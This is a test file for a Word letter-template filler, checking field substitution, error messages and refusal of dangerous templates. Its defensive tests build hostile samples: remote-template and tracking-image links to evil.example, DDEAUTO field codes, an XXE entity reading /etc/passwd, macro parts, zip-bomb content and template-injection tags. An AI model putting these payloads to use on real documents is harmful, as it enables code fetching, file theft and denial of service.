// Letters from Word templates: filled, and read back with another library.

import { readFileSync } from 'node:fs';
import mammoth from 'mammoth';
import PizZip from 'pizzip';
import { describe, expect, it } from 'vitest';
import {
  fillLetter,
  inspectTemplate,
  type LetterFields,
  type LetterValues,
} from '../../electron/core/formats/letter.ts';
import { withParts, wordTableTemplate, wordTemplate } from '../support/word-template.ts';

const naughty: string[] = JSON.parse(
  readFileSync(new URL('../fixtures/text/naughty-strings.json', import.meta.url), 'utf8'),
);

const known: LetterFields = {
  memberName: { label: 'Member' },
  whatHappened: { label: 'What happened' },
  adjustments: { label: 'Adjustments', isOptional: true },
  dates: { label: 'Dates', columns: { what: 'what', day: 'day' } },
};

async function filled(
  template: Uint8Array,
  values: LetterValues,
): Promise<{ text: string; notes: string[]; bytes: Uint8Array }> {
  const letter = fillLetter(template, values, known);
  if (letter.kind !== 'ok') throw new Error(JSON.stringify(letter));
  const { value } = await mammoth.extractRawText({ buffer: Buffer.from(letter.bytes) });
  return { text: value.replace(/\n+$/, ''), notes: letter.notes, bytes: letter.bytes };
}

/** The text as it stands in the document: another library takes some rare characters for ends of lines. */
function written(bytes: Uint8Array): string {
  const xml = new PizZip(bytes).file('word/document.xml')!.asText();
  const marks: Record<string, string> = { lt: '<', gt: '>', quot: '"', apos: "'", amp: '&' };
  return Array.from(xml.matchAll(/<w:t(?: [^>]*)?>([^<]*)<\/w:t>|<w:br\/>/g), ([, text]) => text ?? '\n')
    .join('')
    .replace(/&(lt|gt|quot|apos|amp);/g, (_, name: string) => marks[name]!);
}

const problems = (bytes: Uint8Array): string[] => {
  const { problems } = inspectTemplate(bytes, known);
  // A template with problems is never filled.
  const letter = fillLetter(bytes, { memberName: 'x', whatHappened: 'x' }, known);
  expect(letter).toEqual(problems.length > 0 ? { kind: 'refused', problems } : expect.objectContaining({ kind: 'ok' }));
  return problems;
};

describe('filling', () => {
  it('puts values where the fields are, also where Word has cut a field into pieces', async () => {
    const template = await wordTemplate('Dear {memberName},', ['{what', 'Happ', 'ened}', ' and {memberName}']);
    expect(inspectTemplate(template, known)).toEqual({ fields: ['memberName', 'whatHappened'], problems: [] });
    const { text } = await filled(template, { memberName: 'Rowan Ellis', whatHappened: 'It rained' });
    expect(text).toBe('Dear Rowan Ellis,\n\nIt rained and Rowan Ellis');
  });

  it('keeps line breaks and spaces', async () => {
    const template = await wordTemplate('{whatHappened}');
    const { bytes } = await filled(template, { whatHappened: 'one\r\n  two\n\nthree\rfour\t.' });
    const { value } = await mammoth.convertToHtml({ buffer: Buffer.from(bytes) });
    expect(value).toBe('<p>one<br />  two<br /><br />three<br />four\t.</p>');
  });

  it('repeats for each row of a list, in paragraphs and in a table', async () => {
    const dates = [
      { what: 'Warning', day: '9 November' },
      { what: 'Appeal', day: '12 November' },
    ];
    const lines = await wordTemplate('{#dates}', '{day}: {what}', '{/dates}', 'End');
    expect(inspectTemplate(lines, known).fields).toEqual(['dates']);
    expect((await filled(lines, { dates })).text).toBe('9 November: Warning\n\n12 November: Appeal\n\nEnd');
    const table = await wordTableTemplate('{#dates}{day}', '{what}{/dates}');
    const { value } = await mammoth.convertToHtml({ buffer: Buffer.from((await filled(table, { dates })).bytes) });
    expect(value.match(/<tr>/g)).toHaveLength(2);
  });

  it('shows a part only when there is something to show', async () => {
    const template = await wordTemplate(
      '{#adjustments}',
      'Needs {adjustments}.',
      '{/adjustments}',
      '{^adjustments}',
      'Needs nothing.',
      '{/adjustments}',
    );
    expect((await filled(template, { adjustments: 'a break' })).text).toBe('Needs a break.');
    expect((await filled(template, { adjustments: ' ' })).text).toBe('Needs nothing.');
    expect((await filled(template, {})).text).toBe('Needs nothing.');
  });

  it('inserts text as it was typed: no tag, no XML and no expression in it means anything', async () => {
    const template = await wordTemplate('[{whatHappened}]');
    const texts = ['{memberName}', '{{x}}', '<w:p/>&amp;', '{#dates}', '{1+1}', '__proto__', '$&$1'];
    for (const text of [...texts, ...naughty.filter((each) => each.trim() !== '')]) {
      const { bytes, notes } = await filled(template, { whatHappened: text });
      const lines = text.replace(/\r\n?/g, '\n');
      const kept = lines.replace(/[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]|\p{Cs}/gu, '');
      expect(written(bytes)).toBe(`[${kept}]`);
      expect(notes).toHaveLength(kept === lines ? 0 : 1);
    }
  });

  it('says what a Word document cannot hold', async () => {
    const template = await wordTemplate('{whatHappened}');
    const { text, notes } = await filled(template, { whatHappened: 'a\u0001b\ud800c\u000bd' });
    expect(text).toBe('abcd');
    expect(notes).toEqual(['What happened: 3 characters were left out, because a Word document cannot hold them.']);
  });

  it('gives the same bytes each time', async () => {
    const template = await wordTemplate('{memberName}');
    const first = await filled(template, { memberName: 'x' });
    await new Promise((resolve) => setImmediate(resolve));
    expect(Buffer.compare((await filled(template, { memberName: 'x' })).bytes, first.bytes)).toBe(0);
  });

  it('of a template proper (.dotx) gives a document', async () => {
    const dotx = withParts(await wordTemplate('{memberName}'), {
      '[Content_Types].xml': (xml) => xml.replace('document.main+xml', 'template.main+xml'),
    });
    const { bytes } = await filled(dotx, { memberName: 'x' });
    expect(new PizZip(bytes).file('[Content_Types].xml')!.asText()).not.toContain('template.main+xml');
  });
});

describe('a missing field', () => {
  it('is named, and nothing is written', async () => {
    const template = await wordTemplate('{memberName} {whatHappened} {adjustments} {whatHappened}');
    expect(fillLetter(template, { memberName: ' \n' }, known)).toEqual({
      kind: 'missing',
      fields: [
        { name: 'memberName', label: 'Member' },
        { name: 'whatHappened', label: 'What happened' },
      ],
    });
    expect((await filled(template, { memberName: 'a', whatHappened: 'b' })).text).toBe('a b  b');
  });

  it('is named in a list without rows, and in a row without a value', async () => {
    const template = await wordTemplate('{#dates}', '{day}: {what}', '{/dates}');
    expect(fillLetter(template, { dates: [] }, known)).toEqual({
      kind: 'missing',
      fields: [{ name: 'dates', label: 'Dates' }],
    });
    expect(fillLetter(template, { dates: [{ what: 'x', day: '' }] }, known)).toEqual({
      kind: 'missing',
      fields: [{ name: 'day', label: 'Dates: day' }],
    });
  });

  it('within a part that does not show is not missed', async () => {
    const template = await wordTemplate('{#adjustments}', '{adjustments} {whatHappened}', '{/adjustments}', 'End');
    expect((await filled(template, {})).text).toBe('End');
    expect(fillLetter(template, { adjustments: 'x' }, known).kind).toBe('missing');
  });

  it('is not found on what every object has', async () => {
    const template = await wordTemplate('{constructor}{toString}');
    expect(problems(template)).toHaveLength(2);
  });
});

describe('what is wrong with a template', () => {
  it('is said in sentences that name the field', async () => {
    expect(problems(await wordTemplate('{membername} {employer}'))).toEqual([
      '{membername} is not a field that letters have. Perhaps {memberName} is meant.',
      '{employer} is not a field that letters have.',
    ]);
    expect(problems(await wordTemplate('Dear {memberName'))).toEqual([
      expect.stringMatching(/opened with \{ and never closed, at "\{memberName/),
    ]);
    expect(problems(await wordTemplate('Dear memberName}'))).toEqual([expect.stringContaining('never opened')]);
    expect(problems(await wordTemplate('{{memberName}}'))).toEqual([
      expect.stringContaining('two braces'),
      expect.stringContaining('two braces'),
    ]);
    expect(problems(await wordTemplate('{#dates}', '{day}'))).toEqual([
      expect.stringContaining('put {/dates} after it'),
    ]);
    expect(problems(await wordTemplate('{/dates}'))).toEqual([expect.stringContaining('{#dates} never began')]);
    expect(problems(await wordTemplate('{day}'))).toEqual([expect.stringContaining('between {#dates} and {/dates}')]);
    expect(problems(await wordTemplate('{dates}'))).toEqual([expect.stringContaining('{dates} is a list')]);
  });

  it.each([
    '{1+1}',
    '{memberName.length}',
    '{memberName | upper}',
    '{this.constructor}',
    '{@memberName}',
    '{.}',
    '{=<% %>=}',
    '{require("fs")}',
  ])('%s is refused: a letter holds no formulas', async (tag) => {
    expect(problems(await wordTemplate(`x`, tag)).join(' ')).toMatch(/not a plain field name/);
  });
});

describe('a document that a letter has no use for', () => {
  const relation = (type: string, target: string) => (xml: string) =>
    xml.replace(
      '</Relationships>',
      `<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
    );
  const rels = 'word/_rels/document.xml.rels';

  it('with macros is refused', async () => {
    const plain = await wordTemplate('{memberName}');
    expect(problems(plain)).toEqual([]);
    const docm = {
      '[Content_Types].xml': (xml: string) =>
        xml.replace(/application\/[^"]*document\.main\+xml/, 'application/vnd.ms-word.document.macroEnabled.main+xml'),
    };
    expect(problems(withParts(plain, docm))).toEqual([expect.stringContaining('macros')]);
    expect(problems(withParts(plain, { 'word/vbaProject.bin': 'x' }))).toEqual([expect.stringContaining('macros')]);
  });

  it('that fetches something is refused; a link that somebody clicks is not', async () => {
    const plain = await wordTemplate('{memberName}');
    const refused = async (type: string, target: string) =>
      problems(withParts(plain, { [rels]: relation(type, target) }));
    expect(await refused('attachedTemplate', 'https://evil.example/t.dotm')).toEqual([
      expect.stringContaining('tied to a template'),
    ]);
    expect(await refused('image', 'https://evil.example/pixel.png')).toEqual([
      expect.stringContaining('fetches something'),
    ]);
    expect(await refused('oleObject', 'file:///c:/x')).toEqual([expect.stringContaining('fetches something')]);
    expect(await refused('hyperlink', 'file:///c:/windows/system32/calc.exe')).toEqual([
      expect.stringContaining('link to a file'),
    ]);
    expect(await refused('hyperlink', 'https://example.org')).toEqual([]);
    // Written so that a careless reading would not see it.
    const hidden = (xml: string) =>
      relation('image', 'https://evil.example/x')(xml).replace('External', '&#69;xternal');
    expect(problems(withParts(plain, { [rels]: hidden }))).toEqual([expect.stringContaining('not written as Word')]);
  });

  it('with a field code that starts something is refused', async () => {
    const plain = await wordTemplate('{memberName}');
    const code = (text: string) => ({
      'word/document.xml': (xml: string) =>
        xml.replace(
          '</w:p>',
          `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${text}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
        ),
    });
    const run = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;
    expect(problems(withParts(plain, code(run(' DDEAUTO c:\\\\x'))))).toEqual([expect.stringContaining('field code')]);
    expect(problems(withParts(plain, code(run(' DDE') + run('AUTO c:\\\\x'))))).toEqual([
      expect.stringContaining('field code'),
    ]);
    expect(problems(withParts(plain, code(run(' INCLUDEPICTURE "https://x"'))))).toEqual([
      expect.stringContaining('field code'),
    ]);
    expect(problems(withParts(plain, code(run(' HYPERLINK "https://x" ') + run(' PAGE '))))).toEqual([]);
  });

  it('that names what is outside it is refused', async () => {
    const plain = await wordTemplate('{memberName}');
    const doctype = {
      'word/document.xml': (xml: string) =>
        xml.replace(/<w:document/, '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><w:document'),
    };
    expect(problems(withParts(plain, doctype))).toEqual([expect.stringContaining('not written as Word')]);
  });

  it('that unpacks without end is refused', async () => {
    const plain = await wordTemplate('{memberName}');
    expect(problems(withParts(plain, { 'word/document.xml': ' '.repeat(25_000_000) }))).toEqual([
      expect.stringContaining('far more than a letter'),
    ]);
    const many = Object.fromEntries(Array.from({ length: 2_100 }, (_, at) => [`word/media/${at}.png`, 'x']));
    expect(problems(withParts(plain, many))).toEqual([expect.stringContaining('far more than a letter')]);
  });

  it('that is no Word document, or damaged, or has a password, is a sentence', async () => {
    const plain = await wordTemplate('{memberName}');
    const ole = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(1_024)]);
    const locked = Buffer.concat([ole, Buffer.from('EncryptedPackage', 'utf16le')]);
    const odt = new PizZip();
    odt.file('mimetype', 'application/vnd.oasis.opendocument.text');
    const xlsx = withParts(plain, {
      '[Content_Types].xml': (xml) => xml.replaceAll('wordprocessingml', 'spreadsheetml'),
    });
    for (const [bytes, words] of [
      [Buffer.alloc(0), 'empty'],
      [Buffer.from('Dear member'), 'not a Word document'],
      [Buffer.from('%PDF-1.7'), 'not a Word document'],
      [plain.subarray(0, 500), 'damaged'],
      [ole, 'older Word'],
      [locked, 'has a password'],
      [odt.generate({ type: 'nodebuffer' }), 'OpenDocument'],
      [xlsx, 'Excel'],
      [withParts(plain, { 'word/document.xml': '<w:document><w:body><w:p>' }), 'damaged'],
    ] as const) {
      expect(problems(bytes)).toEqual([expect.stringContaining(words)]);
    }
  });
});
